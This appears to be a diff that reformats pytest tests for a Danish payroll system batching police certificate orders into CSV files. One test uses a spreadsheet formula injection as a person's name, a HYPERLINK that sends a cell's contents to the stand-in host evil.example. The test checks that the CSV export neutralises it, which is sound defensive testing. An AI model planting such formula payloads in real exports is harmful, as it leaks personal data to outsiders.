@@ -15,9 +15,9 @@ def lines_of(batch):
     return list(OrderLine.objects.filter(batch=batch))
 
 
-def test_waiting_lines_are_grouped_by_kind_and_legal_basis(school, care_home, teacher,
-                                                           care_helper, school_manager,
-                                                           care_manager, payroll):
+def test_waiting_lines_are_grouped_by_kind_and_legal_basis(
+    school, care_home, teacher, care_helper, school_manager, care_manager, payroll
+):
     order_for(unit=school, profile=teacher, by=school_manager)
     order_for(unit=school, profile=teacher, by=school_manager)
     order_for(unit=care_home, profile=care_helper, by=care_manager)
@@ -34,12 +34,18 @@ def test_waiting_lines_are_grouped_by_kind_and_legal_basis(school, care_home, te
     assert not batching.waiting_groups()
 
 
-def test_a_batch_never_holds_more_than_fifty_persons(school, school_manager, payroll,
-                                                     school_secretary):
+def test_a_batch_never_holds_more_than_fifty_persons(
+    school, school_manager, payroll, school_secretary
+):
     optional = school_secretary.requirements.get().legal_basis
-    for i in range(123):
-        order_for(unit=school, profile=school_secretary, by=school_manager, bases=[optional],
-                  cpr=make_cpr("010203"))
+    for _ in range(123):
+        order_for(
+            unit=school,
+            profile=school_secretary,
+            by=school_manager,
+            bases=[optional],
+            cpr=make_cpr("010203"),
+        )
 
     batches = batching.prepare_batches(by=payroll)
 
@@ -47,10 +53,10 @@ def test_a_batch_never_holds_more_than_fifty_persons(school, school_manager, pay
     assert OrderLine.objects.filter(batch__isnull=True).count() == 0
 
 
-def test_paste_text_has_one_person_per_line_as_the_police_want_it(school, teacher,
-                                                                  school_manager, payroll):
-    order_for(unit=school, profile=teacher, by=school_manager, name="Åse Ødegård",
-              cpr="1203961234")
+def test_paste_text_has_one_person_per_line_as_the_police_want_it(
+    school, teacher, school_manager, payroll
+):
+    order_for(unit=school, profile=teacher, by=school_manager, name="Åse Ødegård", cpr="1203961234")
     order_for(unit=school, profile=teacher, by=school_manager, name="Bo Ek", cpr="0101901111")
     batch = next(b for b in batching.prepare_batches(by=payroll) if b.kind.code == "child")
 
@@ -62,8 +68,9 @@ def test_paste_text_has_one_person_per_line_as_the_police_want_it(school, teache
     assert csv_rows[1].startswith("120396-1234;Åse Ødegård;Nordskolen;Børneattest;")
 
 
-def test_marking_a_batch_ordered_moves_every_line_and_records_it(school, teacher,
-                                                                 school_manager, payroll):
+def test_marking_a_batch_ordered_moves_every_line_and_records_it(
+    school, teacher, school_manager, payroll
+):
     order = order_for(unit=school, profile=teacher, by=school_manager)
     batch = batching.prepare_batches(by=payroll)[0]
 
@@ -80,12 +87,14 @@ def test_marking_a_batch_ordered_moves_every_line_and_records_it(school, teacher
     assert order.lines.filter(status="new").count() == 1  # the other kind's batch is untouched
 
 
-def test_marking_ordered_can_be_undone_the_same_day_only(school, teacher, school_manager,
-                                                         payroll):
+def test_marking_ordered_can_be_undone_the_same_day_only(school, teacher, school_manager, payroll):
     order_for(unit=school, profile=teacher, by=school_manager)
     batch = batching.prepare_batches(by=payroll)[0]
-    morning = timezone.make_aware(datetime.datetime.combine(
-        timezone.localdate() + datetime.timedelta(days=1), datetime.time(9)))
+    morning = timezone.make_aware(
+        datetime.datetime.combine(
+            timezone.localdate() + datetime.timedelta(days=1), datetime.time(9)
+        )
+    )
     with time_machine.travel(morning, tick=False):
         batching.mark_batch_ordered(batch=batch, by=payroll)
         batching.undo_batch_ordered(batch=batch, by=payroll)
@@ -93,14 +102,12 @@ def test_marking_ordered_can_be_undone_the_same_day_only(school, teacher, school
         assert (line.status, line.ordered_at) == ("new", None)
         batching.mark_batch_ordered(batch=batch, by=payroll)
     with time_machine.travel(morning + datetime.timedelta(days=1), tick=False):
-        with pytest.raises(OrderError,
-                           match="Markeringen som bestilt kan kun fortrydes samme dag"):
+        with pytest.raises(OrderError, match="Markeringen som bestilt kan kun fortrydes samme dag"):
             batching.undo_batch_ordered(batch=batch, by=payroll)
     assert OrderLine.objects.get(batch=batch).status == "ordered"
 
 
-def test_a_dissolved_batch_returns_its_lines_to_the_queue(school, teacher, school_manager,
-                                                          payroll):
+def test_a_dissolved_batch_returns_its_lines_to_the_queue(school, teacher, school_manager, payroll):
     order_for(unit=school, profile=teacher, by=school_manager)
     batch = batching.prepare_batches(by=payroll)[0]
 
@@ -110,12 +117,14 @@ def test_a_dissolved_batch_returns_its_lines_to_the_queue(school, teacher, schoo
     assert [line.batch_id for g in batching.waiting_groups() for line in g.lines] == [None]
 
 
-def test_a_manager_cannot_cancel_a_line_payroll_is_ordering(school, teacher, school_manager,
-                                                            payroll):
+def test_a_manager_cannot_cancel_a_line_payroll_is_ordering(
+    school, teacher, school_manager, payroll
+):
     order = order_for(unit=school, profile=teacher, by=school_manager)
     batching.prepare_batches(by=payroll)
-    with pytest.raises(OrderError,
-                       match="Lønkontoret er ved at bestille denne attest hos politiet"):
+    with pytest.raises(
+        OrderError, match="Lønkontoret er ved at bestille denne attest hos politiet"
+    ):
         cancel_line(line=order.lines.first(), by=school_manager)
 
 
@@ -127,9 +136,15 @@ def test_people_exempt_from_digital_post_are_set_aside_for_paper_consent(
     from orders.services import place_order
 
     order = place_order(
-        by=school_manager, unit=school, profile=teacher, full_name="Uden Digital Post",
-        cpr=make_cpr(), start_date=timezone.localdate(), child_contact=None,
-        submission_token=uuid.uuid4(), digital_post_exempt=True,
+        by=school_manager,
+        unit=school,
+        profile=teacher,
+        full_name="Uden Digital Post",
+        cpr=make_cpr(),
+        start_date=timezone.localdate(),
+        child_contact=None,
+        submission_token=uuid.uuid4(),
+        digital_post_exempt=True,
         legal_bases=[r.legal_basis for r in teacher.requirements.all()],
     )
     assert batching.prepare_batches(by=payroll) == []
@@ -139,19 +154,27 @@ def test_people_exempt_from_digital_post_are_set_aside_for_paper_consent(
     batching.mark_line_ordered_on_paper(line=paper[0], by=payroll)
 
     assert OrderLine.objects.get(pk=paper[0].pk).status == "ordered"
-    with pytest.raises(OrderError,
-                       match="Denne attest venter ikke på at blive bestilt med samtykke på papir"):
+    with pytest.raises(
+        OrderError, match="Denne attest venter ikke på at blive bestilt med samtykke på papir"
+    ):
         batching.mark_line_ordered_on_paper(line=paper[0], by=payroll)
 
 
 def test_the_csv_cannot_carry_a_spreadsheet_formula(school, teacher, school_manager, payroll):
-    order_for(unit=school, profile=teacher, by=school_manager,
-              name='=HYPERLINK("https://evil.example/?"&A2;"Sofie")')
+    order_for(
+        unit=school,
+        profile=teacher,
+        by=school_manager,
+        name='=HYPERLINK("https://evil.example/?"&A2;"Sofie")',
+    )
     batch = batching.prepare_batches(by=payroll)[0]
     import csv
 
-    rows = list(csv.reader(batching.batch_csv(batch, batching.batch_lines(batch)).splitlines(),
-                           delimiter=";"))
+    rows = list(
+        csv.reader(
+            batching.batch_csv(batch, batching.batch_lines(batch)).splitlines(), delimiter=";"
+        )
+    )
     assert rows[1][1].startswith("'=HYPERLINK")
 
 
@@ -160,11 +183,11 @@ def test_undo_is_refused_when_a_line_has_moved_on(school, teacher, school_manage
     batch = batching.prepare_batches(by=payroll)[0]
     batching.mark_batch_ordered(batch=batch, by=payroll)
     OrderLine.objects.filter(batch=batch).update(status="in_review")
-    with pytest.raises(OrderError,
-                       match="Nogle af attesterne i batchen er allerede gået videre"):
+    with pytest.raises(OrderError, match="Nogle af attesterne i batchen er allerede gået videre"):
         batching.undo_batch_ordered(batch=batch, by=payroll)
     assert set(OrderLine.objects.filter(batch=batch).values_list("status", flat=True)) == {
-        "in_review"}
+        "in_review"
+    }
 
 
 def test_undo_uses_the_copenhagen_day(school, teacher, school_manager, payroll):
